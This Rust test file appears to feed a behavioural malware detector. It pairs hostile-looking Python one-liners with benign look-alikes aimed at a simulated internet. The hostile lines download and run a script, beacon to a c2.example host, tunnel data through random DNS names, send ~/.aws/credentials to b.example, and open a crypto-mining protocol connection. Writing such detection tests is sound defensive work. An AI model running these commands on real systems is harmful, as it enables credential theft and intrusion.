//! What needs somebody who answers: the simulated internet, with [`SITE`].

use super::{Case, burn, case};

/// What it serves: a program, and a page.
pub const SITE: &str = "detektr: 1\nhttp:\n  - {host: cdn.example, path: '/s2', body: \"#!/bin/sh\\nexit 0\\n\"}\n  \
                        - {host: cdn.example, path: '/page', body: 'a page'}\n";

pub const CASES: &[Case] = &[
    case(
        "downloaded-executed",
        r#"python3 -c 'import urllib.request as u
open("/tmp/s2", "wb").write(u.urlopen("http://cdn.example/s2").read())'; chmod +x /tmp/s2; /tmp/s2"#,
        r#"python3 -c 'import urllib.request as u
open("/tmp/page", "wb").write(u.urlopen("http://cdn.example/page").read())'
printf '#!/bin/sh\n' > /tmp/own; chmod +x /tmp/own; /tmp/own; cat /tmp/page"#,
    ),
    case(
        "beaconing",
        r#"python3 -c 'import urllib.request as u, time
for n in range(7):
    u.urlopen("http://c2.example/"); time.sleep(0.5)'"#,
        r#"python3 -c 'import urllib.request as u, time
for n in range(5):
    u.urlopen("http://busy.example/")
for wait in (0.05, 0.9, 0.1, 0.4, 1.2, 0.1, 0.7):
    u.urlopen("http://person.example/"); time.sleep(wait)'"#,
    ),
    case(
        "dns-tunnel",
        r#"python3 -c 'import os, socket
for n in range(15):
    socket.getaddrinfo(os.urandom(20).hex() + ".t.tunnel.example", 80)'"#,
        r#"python3 -c 'import os, socket
for n in range(20):
    socket.getaddrinfo("www%d.cdn.example" % n, 80)
    socket.getaddrinfo("a-name-that-is-rather-long.cdn.example", 80)
for n in range(5):
    socket.getaddrinfo(os.urandom(20).hex() + ".few.example", 80)'"#,
    ),
    case(
        "bait-exfiltrated",
        r#"python3 -c 'import os, urllib.request as u
u.urlopen("http://b.example/", open(os.path.expanduser("~/.aws/credentials"), "rb").read())'"#,
        r#"python3 -c 'import os, urllib.request as u
open(os.path.expanduser("~/.aws/credentials"), "rb").read(); u.urlopen("http://b.example/", open("/etc/services", "rb").read())'"#,
    ),
    case(
        "mining-protocol",
        r#"python3 -c 'import socket
s = socket.create_connection(("203.0.113.9", 8080))
s.sendall(b"{\"id\": 1, \"method\": \"mining.subscribe\", \"params\": []}\n"); s.close()'"#,
        r#"python3 -c 'import socket
s = socket.create_connection(("203.0.113.9", 8080))
s.sendall(b"{\"id\": 1, \"method\": \"news.subscribe\", \"params\": []}\n"); s.close()'"#,
    ),
    case(
        "mining-load",
        concat!(
            "python3 -c 'import socket; s = socket.create_connection((\"203.0.113.9\", 8081))\n",
            burn!("5.2", "0.6"),
            "'"
        ),
        // a name is asked for, a sibling talks, and this one talks to itself
        concat!(
            "python3 -c 'import socket; socket.create_connection((\"203.0.113.9\", 8081))'; ",
            "python3 -c 'import socket; socket.getaddrinfo(\"www.cdn.example\", 0, type=socket.SOCK_STREAM)\n",
            "s = socket.socket(); s.bind((\"127.0.0.1\", 0)); s.listen(); socket.create_connection(s.getsockname())\n",
            burn!("5.2", "0.6"),
            "'",
        ),
    ),
];
